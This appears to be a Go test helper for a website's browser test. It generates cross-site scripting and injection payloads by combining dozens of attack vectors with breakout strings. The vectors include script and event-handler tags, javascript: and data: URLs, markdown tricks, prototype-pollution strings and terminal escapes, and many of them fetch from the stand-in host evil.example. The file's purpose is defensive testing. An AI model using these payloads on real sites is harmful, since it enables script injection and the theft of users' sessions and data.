package sitetest

import "fmt"

// payloads are texts that would run a script, make a request or change the page if any
// of them reached a browser as more than text: each vector bare and behind each of the
// breakouts that leave the place it stands in. They call pwn, which the browser test
// defines, or ask for the host evil.example.
func payloads() []string {
	var list []string
	for i, v := range vectors {
		list = append(list, v)
		for j := range 2 { // not every pair: each vector meets two breakouts
			b := breakouts[(i*2+j)%len(breakouts)]
			list = append(list, fmt.Sprintf(b, v))
		}
	}
	return list
}

// breakouts leave an attribute, an element, a comment, a script or a fence; %s is what
// then follows.
var breakouts = []string{
	`">%s`, `'>%s`, "`>%s", ` x=">%s`, `</pre></details></div>%s`, `</title></style></textarea></noscript>%s`, `</script>%s`,
	`--></p>%s<!--`, `]]>%s`, "```\n\n%s\n\n```", "~~~~\n%s", "\n\n%s\n\n", "<div>\n\n%s", "> %s", "- [ ] %s", "| a | %s |\n|---|---|\n| %[1]s | b |",
	"[x]: <javascript:pwn()> '%s'\n\n[x] %[1]s", "\x1b[31m%s\x1b[0m", "&lt;/code&gt;%s", "{{%s}}", "${%s}", "\u202e%s\u202c", "\u200b%s\x00",
}

var vectors = []string{
	// Elements that run or fetch.
	`<script>pwn()</script>`,
	`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
	`<script type=module>import('//evil.example/x.js')</script>`,
	`<img src=x onerror=pwn()>`,
	`<img src=//evil.example/x.png>`,
	`<img srcset="//evil.example/x.png 1x">`,
	`<svg onload=pwn()>`,
	`<svg><script>pwn()</script></svg>`,
	`<svg><a xlink:href="javascript:pwn()"><text>x</text></a></svg>`,
	`<svg><animate onbegin=pwn() attributeName=x dur=1s>`,
	`<svg><use href="//evil.example/x.svg#x"/></svg>`,
	`<svg><foreignObject><body onload=pwn()></foreignObject></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=pwn()></style></mglyph></table></mtext></math>`,
	`<iframe src="javascript:parent.pwn()"></iframe>`,
	`<iframe srcdoc="<script>parent.pwn()</script>"></iframe>`,
	`<iframe src=//evil.example/></iframe>`,
	`<object data="javascript:pwn()"></object>`,
	`<embed src=//evil.example/x.swf>`,
	`<video src=//evil.example/x.mp4 onerror=pwn()></video>`,
	`<audio src=x onerror=pwn()></audio>`,
	`<video><source onerror=pwn()></video>`,
	`<body onload=pwn()>`,
	`<details open ontoggle=pwn()>`,
	`<input autofocus onfocus=pwn()>`,
	`<select autofocus onfocus=pwn()></select>`,
	`<marquee onstart=pwn()>x</marquee>`,
	`<style>@import '//evil.example/x.css';*{display:none}</style>`,
	`<style>body{background:url(//evil.example/x.png)}</style>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<link rel=prefetch href=//evil.example/x>`,
	`<meta http-equiv=refresh content="0;url=//evil.example/">`,
	`<base href=//evil.example/>`,
	`<form action=//evil.example/><button autofocus onfocus=pwn()>x</button></form>`,
	`<button formaction="javascript:pwn()" form=keys>x</button>`,
	`<a href="javascript:pwn()" id=main>x</a>`,
	`<a href=//evil.example/ ping=//evil.example/ping>x</a>`,
	`<table background=//evil.example/x.png><tr><td>x</table>`,
	`<div style="background:url(//evil.example/x.png);position:fixed;inset:0">x</div>`,
	`<dialog open id=keys>x</dialog>`,
	`<template><script>pwn()</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=pwn()>">`,
	`<textarea><img title="</textarea><img src=x onerror=pwn()>">`,
	`<xmp><p title="</xmp><svg onload=pwn()>">`,
	`<!--><img src=x onerror=pwn()>-->`,
	`<![CDATA[><script>pwn()</script>]]>`,
	`<?xml-stylesheet href="javascript:pwn()"?>`,
	`<x onclick=pwn() style=animation-name:x onanimationstart=pwn()>x</x>`,
	`<img/src="x"/onerror=pwn()//`,
	"<img\tsrc=x\nonerror\r=\fpwn()>",
	`<<script>pwn()//<</script>`,

	// Attributes.
	`x onmouseover=pwn() onfocus=pwn() autofocus tabindex=0`,
	`x" onfocus="pwn()" autofocus tabindex="0`,
	`x' onfocus='pwn()' autofocus tabindex='0`,

	// Addresses.
	`javascript:pwn()`,
	"JaVa\tScRiPt:pwn()",
	` javascript:pwn()`,
	"\x01javascript:pwn()",
	`javascript://evil.example/%0apwn()`,
	`vbscript:pwn()`,
	`data:text/html,<script>parent.pwn()</script>`,
	`data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"/>`,
	`//evil.example/x.png`,
	`https://user:pass@evil.example/"onfocus=pwn()`,
	`file:///etc/passwd`,
	`blob:https://evil.example/1`,

	// Markdown.
	`[x](javascript:pwn())`,
	`![x](//evil.example/x.png "title")`,
	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bigpIi8+)`,
	`<javascript:pwn()>`,
	`[x](<javascript:pwn()>)`,
	`[x](java&#115;cript:pwn())`,
	`[x](&#x6A;avascript:pwn())`,
	`<https://evil.example/" onfocus="pwn()>`,
	"[x][y]\n\n[y]: javascript:pwn()",
	"``` \"><img src=x onerror=pwn()>\nx\n```",
	"| <img src=x onerror=pwn()> |\n|---|\n| x |",
	`**<img src=x onerror=pwn()>**`,
	"`` `<img src=x onerror=pwn()>` ``",
	`[x](https://evil.example/ "onfocus=pwn() autofocus")`,

	// Templates, prototypes, numbers, the ids and classes of the page itself.
	`{{constructor.constructor('pwn()')()}}`,
	`__proto__`, `constructor`, `toString`, `[object Object]`,
	`{"__proto__":{"onload":"pwn()"}}`,
	`main`, `keys`, `site-q`, `scheme`,
	`%3Cscript%3Epwn()%3C/script%3E`,
	`\u003cscript\u003epwn()\u003c/script\u003e`,
	`&lt;script&gt;pwn()&lt;/script&gt;`,
	`+ADw-script+AD4-pwn()+ADw-/script+AD4-`,

	// Terminals.
	"\x1b]8;;javascript:pwn()\x1b\\x\x1b]8;;\x1b\\",
	"\x1b]0;<script>pwn()</script>\x07",
	"\x1b[38;5;1\"onfocus=pwn()mx",
	"a\r<script>pwn()</script>\b\b",
}
